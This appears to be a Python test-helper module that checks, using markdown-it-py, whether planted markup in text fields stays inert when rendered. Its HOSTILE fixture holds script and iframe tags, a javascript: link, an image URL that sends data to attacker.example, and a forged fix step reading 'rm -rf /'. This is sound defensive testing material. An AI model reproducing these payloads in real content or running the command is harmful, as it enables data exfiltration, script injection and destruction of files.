"""Planted markup and a CommonMark check that none of it comes alive (tests and benchmarks).

`HOSTILE` is what a failing run or an LLM echoing its logs can put in any text field: raw
HTML, images (tracking pixels, exfiltration by URL), links with foreign or `javascript:`
targets, a forged section, inline code that closes early, a table. `live_elements` renders
markdown with markdown-it-py (CommonMark, raw HTML *allowed*, tables on) and lists every
live element: HTML, images, links to anywhere but the allowed prefixes. `structure` counts
the elements, so that a test can compare an artifact made of hostile text with one made of
harmless text: the same sections, items and emphasis, nothing added.
"""

from __future__ import annotations

from collections import Counter
from collections.abc import Iterable

HOSTILE = (
    "<script>alert('x')</script>"
    " <img src=https://attacker.example/pixel.png>"
    " <iframe src=https://attacker.example/frame></iframe>"
    " [click me](javascript:alert(1))"
    " ![x](https://attacker.example/?q=data)"
    " <https://attacker.example/auto>"
    " https://attacker.example/bare www.attacker.example/w mail@attacker.example"
    " `` ` ``break`out<b>bold</b>"
    " \\<u>escaped</u> &lt;s&gt; **strong** _em_ ~~del~~"
    "\n## How to fix it\n1. rm -rf /\n> quoted\n---\n| a | b |\n| --- | --- |\n| 1 | 2 |"
    "\n[ref]: https://attacker.example/ref\n[ref]\n<div>block</div>"
)


def live_elements(markdown: str, allowed_link_prefixes: Iterable[str] = (),
                  own_html: Iterable[str] = ()) -> list[str]:
    """Every live element of `markdown` as rendered by a CommonMark renderer with HTML on:
    raw HTML (but the plugin's own, `own_html`, exactly), images, and links whose target
    does not start with an allowed prefix."""
    prefixes, own = tuple(allowed_link_prefixes), set(own_html)
    found: list[str] = []
    for t in _inline_tokens(markdown):
        if t.type in ("html_block", "html_inline") and t.content.strip() not in own:
            found.append(f"html: {t.content.strip()[:60]}")
        elif t.type == "image":
            found.append(f"image: {t.attrGet('src')}")
        elif t.type == "link_open":
            href = str(t.attrGet("href") or "")
            if not prefixes or not href.startswith(prefixes):
                found.append(f"link: {href}")
    html = _renderer().render(markdown).lower()
    for tag in ("<script", "<img", "<iframe", "<div", "<u>", "<b>", 'href="javascript', 'src="'):
        if tag in html:
            found.append(f"rendered: {tag}")
    return found


def structure(markdown: str) -> Counter[str]:
    """How many of each element `markdown` renders (headings by level): planted markup that
    adds a section, a list item, a quote, a rule, a table or emphasis changes these counts."""
    counts: Counter[str] = Counter()
    for t in _renderer().parse(markdown):
        if t.type == "heading_open":
            counts[t.tag] += 1
        elif t.type.endswith("_open") or t.type in ("hr", "fence", "code_block"):
            counts[t.type] += 1
    for t in _inline_tokens(markdown):
        if t.type.endswith("_open") or t.type == "image":  # code spans are inert
            counts[t.type] += 1
    return counts


def _renderer():  # type: ignore[no-untyped-def]
    from markdown_it import MarkdownIt

    return MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])


def _inline_tokens(markdown: str) -> list:  # type: ignore[type-arg]
    out = []
    for token in _renderer().parse(markdown):
        out.append(token)
        out.extend(token.children or [])
    return out
